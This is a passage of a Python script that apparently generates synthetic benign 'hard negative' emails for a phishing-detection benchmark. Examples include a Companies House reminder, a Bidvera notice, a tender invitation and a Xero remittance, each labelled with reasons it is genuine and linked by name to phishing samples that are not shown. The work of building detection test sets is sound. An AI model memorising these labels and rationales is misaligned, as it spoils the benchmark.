                       P("text/html", text=html, charset="utf-8", cte="quoted-printable")])
    m.what = ("Microsoft account notice to the mail admin: an authenticator app was added as security info to the "
              "company's Microsoft account (licensing/partner account), with links to account.live.com.")
    m.why = ("Sent by Microsoft's own system (accountprotection.microsoft.com via Exchange Online, DKIM/DMARC pass), "
             "masked address, links only to account.live.com/go.microsoft.com, informational; the admin had just "
             "re-enrolled his phone.")
    m.hard_negative_of = (["attack/13-en-device-code-phish-compromised-carrow.eml",
                           "attack/16-en-oauth-consent-bidvera-lookalike.eml"],
                          "Microsoft account/sign-in topic. Genuine: Microsoft's notification system, informational, "
                          "no code or consent requested. Attacks: device code / consent grant via third parties.")
    return m.finish(mta.m365, root, region="NAM", lang="en", tenant_id="72f988bf-86f1-41af-91ab-2d7cd011db47",
                    arc=True, crosstenant_upn=False)


def b12():
    m = Msg("12-en-companies-house-confirmation-statement.eml", "business", "en")
    m.frm = ("Companies House", "companies.house.noreply@notifications.service.gov.uk")
    m.to = [("", "james.whitfield@example.com")]
    m.subject = "Confirmation statement due for EXAMPLE GROUP AUCTIONS LTD (12874530)"
    _ukdate(m, 2026, 11, 6, 8, 2, 41)
    m.msgid = mta.ses_msgid(m.rng, m.date, "eu-west-2")
    l1 = "https://find-and-update.company-information.service.gov.uk/company/12874530"
    l2 = "https://www.gov.uk/file-your-confirmation-statement-with-companies-house"
    l3 = "https://www.gov.uk/guidance/protect-your-company-from-fraud"
    text = ("Companies House\n\nEXAMPLE GROUP AUCTIONS LTD (12874530)\n\nThe confirmation statement for this company is "
            "due by 17 December 2026.\n\nYou must check that the information we hold about the company is correct and "
            "file a confirmation statement at least once every 12 months. The filing fee is £50.\n\n"
            "File the confirmation statement online:\n%s\n\nView the company information:\n%s\n\n"
            "It's a criminal offence not to file a confirmation statement. Companies House will never contact you "
            "asking for payment by bank transfer or for your authentication code by email or phone.\n\n"
            "Find out how to protect your company from fraud:\n%s\n\nCompanies House\n") % (l2, l1, l3)
    html = ('<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            '<meta name="viewport" content="width=device-width"></head><body style="font-family:Helvetica,Arial,'
            'sans-serif;font-size:16px;margin:0;color:#0b0c0c"><table role="presentation" width="100%%" '
            'style="border-collapse:collapse;min-width:100%%"><tr><td width="100%%" height="53" bgcolor="#0b0c0c">'
            '<table role="presentation" width="100%%" style="max-width:580px"><tr><td style="padding-left:10px">'
            '<span style="font-size:28px;line-height:1.315789474;font-weight:700;color:#ffffff">Companies House</span>'
            '</td></tr></table></td></tr></table><table role="presentation" style="max-width:580px" width="100%%"><tr>'
            '<td width="10" height="10" valign="middle"></td><td><table role="presentation" width="100%%"><tr><td '
            'bgcolor="#1D70B8" width="100%%" height="10"></td></tr></table></td></tr></table><table role="presentation" '
            'style="max-width:580px" align="center"><tr><td width="10"></td><td style="font-size:19px;line-height:1.315789474">'
            '%s</td><td width="10"></td></tr></table></body></html>\n') % paras_html(text, "Margin:0 0 20px 0")
    for u in (l1, l2, l3):
        html = html.replace(u, '<a style="color:#1D70B8" href="%s">%s</a>' % (u, u))
    root = P("multipart/alternative", boundary=U.hexs(m.rng, 32), children=[
        P("text/plain", text=text, charset="utf-8", cte="quoted-printable"),
        P("text/html", text=html, charset="utf-8", cte="quoted-printable")])
    m.envfrom = "%s@eu-west-2.amazonses.com" % m.msgid.strip("<>").split("@")[0]
    m.what = "GOV.UK Notify e-mail from Companies House: confirmation statement due by 17 December 2026."
    m.why = ("Sent through GOV.UK Notify (Amazon SES) with DKIM for notifications.service.gov.uk, correct company "
             "number, links only to gov.uk/company-information.service.gov.uk, explicit anti-fraud advice.")
    m.hard_negative_of = (["attack/26-pl-rejestr-oplata-wezwanie.eml",
                           "attack/05-de-registerfalle-eintragungsofferte-girocode.eml"],
                          "Company-register reminder. Genuine: official service, no bank transfer requested. Attacks: "
                          "register look-alikes demanding payment to private accounts.")
    return m.finish(mta.ses, root, region="eu-west-2",
                    order=["From", "To", "Subject", "MIME-Version", "__MIME__", "Message-ID", "Date"],
                    extra=["List-Unsubscribe: <https://www.notifications.service.gov.uk/unsubscribe/%s/%s>" % (
                        U.uuid4(m.rng), U.hexs(m.rng, 40))])


def b13():
    m = Msg("13-en-bidvera-catalogue-live-sendgrid.eml", "business", "en")
    m.frm = ("Bidvera", "notifications@bidvera.com")
    m.reply_to = [("Bidvera Auctioneer Support", "support@bidvera.com")]
    m.to = [("Katharina Seidl", "katharina.seidl@examplegroup.eu")]
    m.subject = "Your catalogue is live: Sale 2612 – Furniture, Works of Art & the Harcourt Collection"
    _ukdate(m, 2026, 11, 17, 16, 0, 4)
    m.msgid = "<%s@geopod-ismtpd-%d>" % (U.b64(m.rng, 16, urlsafe=True), m.rng.randint(1, 40))
    ct = "https://u4821907.ct.sendgrid.net/ls/click?upn=u001.%s"
    c1 = ct % U.b64(m.rng, 90, urlsafe=True)
    c2 = ct % U.b64(m.rng, 90, urlsafe=True)
    c3 = ct % U.b64(m.rng, 90, urlsafe=True)
    opn = "https://u4821907.ct.sendgrid.net/wf/open?upn=u001.%s" % U.b64(m.rng, 120, urlsafe=True)
    text = ("Hi Katharina,\n\nSale 2612 \"Furniture, Works of Art & the Harcourt Collection\" (London, 8 December 2026, "
            "10:00 GMT) has been published on Bidvera.\n\n312 lots published · 4 lots held for review (missing "
            "condition reports) · Live bidding opens 8 December, 09:30 GMT\n\nView catalogue: "
            "https://www.bidvera.com/auctioneer/example-group/sale/2612\nOpen your auctioneer dashboard: "
            "https://partners.bidvera.com/dashboard?sale=2612\n\nAbsentee bids placed on Bidvera will appear in your "
            "dashboard and in the clerking export as usual.\n\nThe Bidvera Team\n\nBidvera Technologies Ltd, Grand "
            "Canal Square 3, Dublin 2, D02 X576, Ireland\nManage notification settings: "
            "https://partners.bidvera.com/settings/notifications\n")
    html = ('<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
            '</head><body style="margin:0;background:#f2f4f7;font-family:Helvetica,Arial,sans-serif">'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 12px">'
            '<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:6px">'
            '<tr><td style="background:#0e2a47;padding:18px 28px;color:#ffffff;font-size:20px;font-weight:bold;'
            'letter-spacing:1px">bidvera<span style="color:#f5a623">.</span></td></tr><tr><td style="padding:28px;'
            'font-size:15px;line-height:22px;color:#1d2939"><p>Hi Katharina,</p><p>Sale 2612 <b>&quot;Furniture, Works '
            'of Art &amp; the Harcourt Collection&quot;</b> (London, 8 December 2026, 10:00 GMT) has been published on '
            'Bidvera.</p><table width="100%%" style="background:#f8fafc;border:1px solid #eaecf0"><tr><td '
            'style="padding:12px;font-size:14px">312 lots published<br>4 lots held for review (missing condition '
            'reports)<br>Live bidding opens 8 December, 09:30 GMT</td></tr></table><p style="padding-top:12px">'
            '<a href="%s" style="background:#f5a623;color:#0e2a47;padding:10px 22px;border-radius:4px;'
            'text-decoration:none;font-weight:bold">View catalogue</a> &nbsp; <a href="%s" style="color:#175cd3">'
            'Open your auctioneer dashboard</a></p><p>Absentee bids placed on Bidvera will appear in your dashboard and '
            'in the clerking export as usual.</p><p>The Bidvera Team</p></td></tr><tr><td style="padding:16px 28px;'
            'font-size:11px;color:#98a2b3;border-top:1px solid #eaecf0">Bidvera Technologies Ltd, Grand Canal Square 3, '
            'Dublin 2, D02 X576, Ireland<br><a href="%s" style="color:#98a2b3">Manage notification settings</a></td>'
            '</tr></table></td></tr></table><img src="%s" alt="" width="1" height="1" border="0" '
            'style="height:1px !important;width:1px !important;border-width:0 !important;margin-top:0 !important;'
            'margin-bottom:0 !important;margin-right:0 !important;margin-left:0 !important;padding-top:0 !important;'
            'padding-bottom:0 !important;padding-right:0 !important;padding-left:0 !important;"/></body></html>\n') % (
        c1, c2, c3, opn)
    root = P("multipart/alternative", boundary=U.hexs(m.rng, 64), children=[
        P("text/plain", text=text, charset="utf-8", cte="quoted-printable"),
        P("text/html", text=html, charset="utf-8", cte="quoted-printable")])
    m.envfrom = "bounces+%d-%s-katharina.seidl=examplegroup.eu@em5213.bidvera.com" % (m.rng.randint(10 ** 6, 10 ** 7),
                                                                                   U.hexs(m.rng, 4))
    m.what = ("Genuine Bidvera platform notification (SendGrid) that the London Sale 2612 catalogue is live, with "
              "SendGrid click-tracking links to the dashboard.")
    m.why = ("Real platform domain bidvera.com with DKIM s1 and DMARC pass via SendGrid, expected event after "
             "catalogue upload, no credential or consent request.")
    m.hard_negative_of = (["attack/16-en-oauth-consent-bidvera-lookalike.eml"],
                          "Trade-portal notification. Genuine: bidvera.com via SendGrid, informational. Attack: "
                          "look-alike bidvera-live.com via Mailgun with an OAuth consent link.")
    return m.finish(mta.sendgrid, root, em_sub="em5213")


def b14():
    m = Msg("14-en-colleague-private-icloud.eml", "business", "en")
    m.frm = ("Olivia Bennett", "olivia.r.bennett@icloud.com")
    m.to = [("Harriet Lowe", "harriet.lowe@example.com"), ("James Whitfield", "james.whitfield@example.com")]
    m.cc = [("Olivia Bennett", "olivia.bennett@example.com")]
    m.subject = "Trains cancelled – can one of you open up for the 10am viewing?"
    _ukdate(m, 2026, 11, 30, 8, 7, 33)
    m.msgid = "<%s@icloud.com>" % U.uuid4(m.rng, True)
    m.fact("phones", "+44 7700 900418")
    text = ("Morning both,\n\nSouthern have cancelled everything out of Haywards Heath so I won't be in before 11 at "
            "the earliest. Could one of you open up for the 10am viewing (Mr and Mrs Aldridge, lots 31 and 58)? The "
            "alarm code is the usual one, and the condition reports are printed on my desk in the blue folder.\n\n"
            "Sending from my own phone as Outlook keeps asking me to re-authenticate. Call me on +44 7700 900418 if "
            "anything's unclear.\n\nOlivia\n\nSent from my iPhone")
    root = P("text/plain", text=text, charset="utf-8", cte="quoted-printable")
    m.what = ("London office manager writes from her private iCloud address (cc to her work address) asking "
              "colleagues to open the 10am viewing because trains are cancelled.")
    m.why = ("Personal account but cc to her own work mailbox, operational request only (no money, no data), "
             "specific internal details, phone number for call-back; iCloud authentication passes.")
    m.hard_negative_of = (["attack/09-en-payroll-diversion-outlook-com.eml", "attack/10-en-gift-cards-ceo-gmail.eml"],
                          "Colleague writing from private mail. Genuine: cc to work address, no payment or secrecy. "
                          "Attacks: private-mail impersonation asking for salary diversion or gift cards.")
    return m.finish(mta.icloud, root)


@once
def b15():
    m = Msg("15-en-carrow-invitation-to-tender.eml", "business", "en")
    m.frm = ("Rachel Dunmore", "rachel.dunmore@carrow-engineering.co.uk")
    m.to = [("Andreas Kettl", "andreas.kettl@example.com")]
    m.subject = "Invitation to Tender CE-2026-117 – Disposal of surplus CNC machining centres and test equipment"
    _ukdate(m, 2026, 11, 2, 10, 15, 9)
    m.ol_server = "LO2P265MB4406"
    m.msgid = U.outlook_msgid(m.rng, m.ol_server, "GBR")
    m.content_lang = "en-GB"
    m.accept_lang = "en-GB, en-US"
    m.fact("phones", "+44 1603 418 900")
    text = ("Dear Mr Kettl,\n\nFollowing our call last week, Carrow Engineering Ltd invites Example Group to tender for "
            "the disposal by auction of surplus production and test equipment from our Hellesdon site (ITT "
            "CE-2026-117, attached).\n\nKey dates:\n- Site visit: 12 or 13 November 2026 (please book with me)\n"
            "- Clarification questions by: 20 November 2026\n- Tender return: 4 December 2026, 12:00 GMT, by email to "
            "procurement@carrow-engineering.co.uk\n\nThe asset register will be issued to tenderers who have "
            "returned the signed NDA (Appendix C).\n\nKind regards,\n\nRachel Dunmore\nProcurement Manager\n"
            "Carrow Engineering Ltd\nHellesdon Park Road, Norwich NR6 5DR\nT: +44 1603 418 900\n")
    html = outlook_html(text, "utf-8", "EN-GB", font="Aptos")
    alt = outlook_alt(m, text, html, "utf-8")
    itt = docs.letter(
        m.file, "ITT CE-2026-117", dict(name="Carrow Engineering Ltd", lines=[
            "Hellesdon Park Road · Norwich NR6 5DR · +44 1603 418 900",
            "Registered in England No. 04417832 · VAT %s" % ids.gb_vat("5518240")]),
        ["Example Group Auctions Ltd", "Industrial Assets", "27 Bury Street", "London SW1Y 6AL"],
        "Norwich, 2 November 2026", "Invitation to Tender CE-2026-117: Disposal of surplus CNC machining centres "
                                    "and test equipment",
        ["1. Scope. Carrow Engineering Ltd (\"the Company\") wishes to appoint an auctioneer to market and sell by "
         "online auction approx. 64 lots of surplus equipment, including 3 Mazak VARIAXIS i-600 machining centres "
         "(2016–2018), 2 Hurco VM20i, a Zeiss CONTURA CMM and environmental test chambers.",
         "2. Requirements. Tenderers shall state buyer's premium, vendor commission, marketing plan, timetable, "
         "decommissioning and removal supervision (LOLER/PUWER compliance), and insurance cover.",
         "3. Evaluation. Net return to the Company (60 %), timetable (20 %), health & safety approach (20 %).",
         "4. Submission. Tenders must be returned by email to procurement@carrow-engineering.co.uk by 4 December "
         "2026, 12:00 GMT. Late tenders will not be considered. This ITT does not commit the Company to award "
         "a contract."],
        "Yours sincerely,", ["Rachel Dunmore", "Procurement Manager"],
        footer=["Carrow Engineering Ltd · Confidential – for tender purposes only"],
        producer="Microsoft® Word for Microsoft 365", creator="Microsoft® Word for Microsoft 365",
        created="D:20261030141722Z", accent=(0.0, 0.33, 0.2))
    root = outlook_mixed(m, alt, [outlook_att("application/pdf", itt, "ITT_CE-2026-117_Carrow_Engineering.pdf",
                                              m.date, "UK")])
    m.what = ("A manufacturer invites the group to tender for the auction of surplus CNC and test equipment (ITT as "
              "PDF), following a phone call.")
    m.why = ("Known prospective client via its Microsoft 365 tenant (auth pass), realistic ITT with dates and "
             "evaluation criteria, no links, asset register only after NDA.")
    m.hard_negative_of = (["attack/13-en-device-code-phish-compromised-carrow.eml",
                           "attack/25-pl-zapytanie-ofertowe-zip-js.eml"],
                          "Tender/RFQ from a client. Genuine: PDF ITT, no login needed. Attacks: later "
                          "device-code lure from the same (then compromised) mailbox; fake RFQ with a script in a ZIP.")
    return m.finish(mta.m365, root, region="GBR", lang="en", tenant_id=W.CARROW["tenant"])


def b16():
    m = Msg("16-en-xero-remittance-ashcombe.eml", "business", "en")
    m.frm = ("Ashcombe Fine Art Ltd", "messaging-service@post.xero.com")
    m.reply_to = [("Ashcombe Fine Art Accounts", "accounts@ashcombefineart.co.uk")]
    m.to = [("", "james.whitfield@example.com")]
    m.subject = "Remittance advice from Ashcombe Fine Art Ltd"
    _ukdate(m, 2026, 12, 10, 15, 44, 20)
    m.msgid = mta.ses_msgid(m.rng, m.date, "eu-west-1")
    ib = GB["iban"]
    m.fact("ibans", ib)
    text = ("Hi James,\n\nHere's the remittance advice for our payment to Example Group Auctions Ltd.\n\n"
            "Amount paid: GBP 21,606.00\nPayment date: 10 Dec 2026\nReference: ASH-2612-0417\n\n"
            "If you have any questions, please let us know.\n\nThanks,\nAccounts\nAshcombe Fine Art Ltd\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body '
            'style="font-family:Arial,sans-serif;font-size:14px;color:#000a1e">%s</body></html>\n') % paras_html(text)
    rem = docs.invoice(
        m.file, "Remittance Advice", dict(name="Ashcombe Fine Art Ltd", lines=[
            "6 Ryder Street · London SW1Y 6QB", "accounts@ashcombefineart.co.uk · +44 20 7839 6210"]),
        ["Example Group Auctions Ltd", "27 Bury Street", "London SW1Y 6AL"],
        [("Payment date", "10 Dec 2026"), ("Reference", "ASH-2612-0417"), ("Amount paid", "GBP 21,606.00")],
        ["Invoice date", "Reference", "Invoice total", "Amount paid"],
        [["09 Dec 2026", "LDN-2612-0417 (lots 31, 58, 112)", "21,606.00", "21,606.00"]],
        [("Total paid GBP", "21,606.00", True)],
        notes=["Paid by Faster Payment to Example Group Auctions Ltd, Barclays Bank UK PLC, IBAN %s." %
               ids.fmt_iban(ib)],
        footer=["Ashcombe Fine Art Ltd · Registered in England & Wales No. 06218841"],
        producer="Xero", creator="Xero", created="D:20261210154412Z", accent=(0.07, 0.51, 0.78),
        col_x=[50, 130, 380, 460])
    b = "----=_Part_%d_%d.%d" % (m.rng.randint(10 ** 5, 10 ** 6), m.rng.randint(10 ** 8, 10 ** 9), U.ts(m.date) * 1000)
    root = P("multipart/mixed", boundary=b, children=[
        P("multipart/alternative", boundary=b.replace("Part_", "Part_A"), children=[
            P("text/plain", text=text, charset="UTF-8", cte="7bit"),
            P("text/html", text=html, charset="UTF-8", cte="7bit")]),
        att("application/pdf", rem, "Remittance Advice - Example Group Auctions Ltd.pdf", fn_style="plain")])
    m.envfrom = "%s@eu-west-1.amazonses.com" % m.msgid.strip("<>").split("@")[0]
    m.fact("phones", "+44 20 7839 6210")
    m.what = ("Remittance advice generated by the dealer's Xero account after paying invoice LDN-2612-0417 (lots 31, "
              "58, 112) – PDF, reply-to the dealer's accounts mailbox.")
    m.why = ("Xero's messaging service (post.xero.com via SES, DKIM/DMARC pass), amount and reference match the "
             "sale invoice, payment into the company's own Barclays account, PDF only.")
    m.hard_negative_of = (["attack/12-en-html-attachment-remittance-compromised.eml"],
                          "Remittance advice from the same client. Genuine: Xero PDF, matching invoice. Attack: .htm "
                          "login page from the compromised accounts mailbox.")
    return m.finish(mta.ses, root, region="eu-west-1",
                    order=["Date", "From", "Reply-To", "To", "Message-ID", "Subject", "MIME-Version", "__MIME__"],
                    extra=["X-Xero-Org: %s" % U.uuid4(m.rng)])


ATTACK = [a09, a10, a11, a12, a13, a14, a15, a16]
BUSINESS = [b09, b10, b11, b12, b13, b14, b15, b16]
